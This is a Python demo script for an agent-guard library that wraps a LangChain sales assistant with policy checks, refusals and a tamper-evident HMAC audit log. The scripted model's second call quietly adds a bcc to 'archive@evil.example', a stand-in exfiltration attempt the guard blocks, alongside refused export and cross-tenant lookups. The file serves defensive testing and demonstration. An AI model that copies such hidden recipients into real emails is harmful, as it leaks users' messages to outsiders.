"""The offline demo: what the guard lets through, what it refuses, and the trail it leaves."""

from __future__ import annotations

import json
import re
import secrets
import shutil
import tempfile
from collections.abc import Callable
from importlib import resources
from pathlib import Path
from typing import Any, TextIO, TypedDict

from langchain.agents import create_agent
from langchain_core.messages import AIMessage, BaseMessage, HumanMessage, ToolMessage

from agentguard.audit import AuditLog, JsonlSink, read_events, verify_events
from agentguard.context import Principal
from agentguard.demo import crm
from agentguard.demo.approval_act import approval_act
from agentguard.demo.dlp_act import dlp_act
from agentguard.demo.injection_act import injection_act
from agentguard.guard import Guard
from agentguard.identity import CallContext
from agentguard.integrations.langchain import GuardMiddleware
from agentguard.policy.loader import load_policy
from agentguard.testing import ScriptedChatModel


class DemoContext(TypedDict):
    """What the host application puts in the run context: who the agent acts for."""

    principal: Principal


USER_REQUEST = (
    "Find Bob Lee, email him that the meeting moved to 3pm, and pull up contact c-900 too."
)


def _call(name: str, args: dict[str, Any], call_id: str) -> AIMessage:
    return AIMessage(content="", tool_calls=[{"name": name, "args": args, "id": call_id}])


def _fix_after_refusal(messages: list[BaseMessage]) -> AIMessage:
    """Scripted 'model' that reads the guard's error and drops the argument it named."""
    last = messages[-1]
    text = str(last.content)
    bad = set(re.findall(r"unexpected argument '([^']+)'", text))
    previous = next(m for m in reversed(messages) if isinstance(m, AIMessage) and m.tool_calls)
    args = {k: v for k, v in previous.tool_calls[0]["args"].items() if k not in bad}
    return _call("send_email", args, "call-3")


def script() -> list[AIMessage | Callable[[list[BaseMessage]], AIMessage]]:
    return [
        _call("search_contacts", {"query": "Bob Lee"}, "call-1"),
        _call(
            "send_email",
            {
                "to": "bob.lee@acme.example",
                "subject": "Meeting moved",
                "body": "Hi Bob, the meeting is now at 3pm.",
                "bcc": "archive@evil.example",
            },
            "call-2",
        ),
        _fix_after_refusal,
        _call("export_contacts", {"format": "csv"}, "call-4"),
        _call("get_contact", {"contact_id": "c-900"}, "call-5"),
        AIMessage(content="Bob has the new time. I could not open c-900 or export contacts."),
    ]


class _Printer:
    def __init__(self, out: TextIO) -> None:
        self.out = out

    def __call__(self, text: str = "") -> None:
        print(text, file=self.out)

    def block(self, text: str, indent: str = "      | ") -> None:
        for line in text.splitlines():
            self(indent + line)


def _fmt_args(args: dict[str, Any]) -> str:
    return ", ".join(f"{k}={json.dumps(v)}" for k, v in args.items())


def run_demo(out: TextIO, workdir: Path | None = None) -> int:
    """Run the whole demo, printing to `out`. Returns 0 when everything behaved as expected."""
    say = _Printer(out)
    workdir = workdir or Path(tempfile.mkdtemp(prefix="agentguard-demo-"))
    workdir.mkdir(parents=True, exist_ok=True)
    audit_path = workdir / "audit.jsonl"
    key = secrets.token_bytes(32)
    policy_file = resources.files("agentguard.demo").joinpath("policy.yaml")
    policy = load_policy(policy_file.read_text(encoding="utf-8"))
    guard = Guard(
        policy,
        audit=AuditLog(JsonlSink(audit_path), key, key_id="demo"),
        resources={"contact": crm.contact_owner},
    )
    tools = crm.all_tools()
    model = ScriptedChatModel(turns=script())
    agent = create_agent(
        model, tools, middleware=[GuardMiddleware(guard)], context_schema=DemoContext
    )
    alice = Principal(tenant="acme", user="alice", role="employee", agent_id="sales-assistant")

    say("agentguard demo: an offline sales assistant for Acme, with a scripted model.")
    say(f"Policy {policy.version!r}: {len(policy.tools)} tools, roles {', '.join(policy.roles)}.")
    say(
        f"Acting for {alice.user}@{alice.tenant} (role {alice.role}), set by the host "
        "application in the run context, never by the model."
    )
    visible = [
        t.name
        for t in guard.visible_tools(tools, CallContext(runtime_context={"principal": alice}))
    ]
    hidden = [t.name for t in tools if t.name not in visible]
    say(f"Tools the model is shown: {', '.join(visible)}")
    say(f"Tools hidden from it:     {', '.join(hidden)}")
    say()
    say(f"User: {USER_REQUEST}")
    say()

    step = 0
    outcomes: list[str] = []
    for update in agent.stream(
        {"messages": [HumanMessage(USER_REQUEST)]},
        context={"principal": alice},
        stream_mode="updates",
    ):
        for node_update in update.values():
            for msg in (node_update or {}).get("messages", []):
                if isinstance(msg, AIMessage) and msg.tool_calls:
                    for tc in msg.tool_calls:
                        step += 1
                        say(f"[{step}] model calls {tc['name']}({_fmt_args(tc['args'])})")
                elif isinstance(msg, AIMessage):
                    say(f"Model's answer: {msg.content}")
                elif isinstance(msg, ToolMessage):
                    mark = msg.additional_kwargs.get("agentguard")
                    if mark and mark.get("kind") != "result":
                        outcomes.append(str(mark.get("level")))
                        level = mark.get("level")
                        say(f"    guard: REFUSED ({level}); nothing ran. The model reads:")
                        say.block(str(msg.content))
                    else:
                        outcomes.append("allowed")
                        say(f"    guard: allowed; the tool ran -> {str(msg.content)[:100]}")
    say()

    events = list(read_events(audit_path))
    say(f"Audit trail: {audit_path} ({len(events)} events, HMAC hash-chained, no raw arguments)")
    say(f"  {'seq':>3}  {'event':<9} {'tool':<16} {'result':<8} {'level':<9} reason")
    for e in events:
        say(
            f"  {e['seq']:>3}  {e['event']:<9} {e['tool']:<16} {e['result']:<8} "
            f"{e.get('level') or '-':<9} {e.get('reason') or '-'}"
        )
    refused = next(e for e in events if e["result"] == "deny")
    say(
        f"  Event {refused['seq']} records the refused call's shape, not its values: "
        f"{json.dumps(refused['summary']['args'])}"
    )
    say()
    report = verify_events(events, {"demo": key})
    say("$ agentguard audit verify " + str(audit_path))
    say(f"  {'OK' if report.ok else 'TAMPERED'}: {report.count} events checked")

    tampered = workdir / "audit-tampered.jsonl"
    shutil.copy(audit_path, tampered)
    lines = tampered.read_text(encoding="utf-8").splitlines()
    victim = next(i for i, line in enumerate(lines) if json.loads(line)["result"] == "deny")
    record = json.loads(lines[victim])
    record["result"] = "allow"
    lines[victim] = json.dumps(record, sort_keys=True, separators=(",", ":"))
    tampered.write_text("\n".join(lines) + "\n", encoding="utf-8")
    say()
    say(f"Someone edits a copy, turning event {victim}'s 'deny' into 'allow'...")
    bad = verify_events(read_events(tampered), {"demo": key})
    say("$ agentguard audit verify " + str(tampered))
    verdict = "OK" if bad.ok else "TAMPERED"
    say(f"  {verdict}: event #{bad.first_bad_index} (seq {bad.first_bad_seq}): {bad.reason}")
    say()
    say(
        "To verify yourself: AGENTGUARD_AUDIT_KEY=hex:"
        + key.hex()
        + " agentguard audit verify "
        + str(audit_path)
    )
    say()
    acts = {
        "act 2": approval_act(say, workdir, policy),
        "act 3": injection_act(say, policy),
        "act 4": dlp_act(say, workdir, policy),
    }
    act_ok = all(acts.values())
    expected = ["allowed", "schema", "allowed", "tool", "tenant"]
    ok = outcomes == expected and report.ok and not bad.ok and bad.first_bad_index == victim
    ok = ok and act_ok
    if not ok:
        failed = [name for name, passed in acts.items() if not passed]
        say(f"UNEXPECTED: outcomes {outcomes}, expected {expected}; acts failing: {failed}")
    return 0 if ok else 1
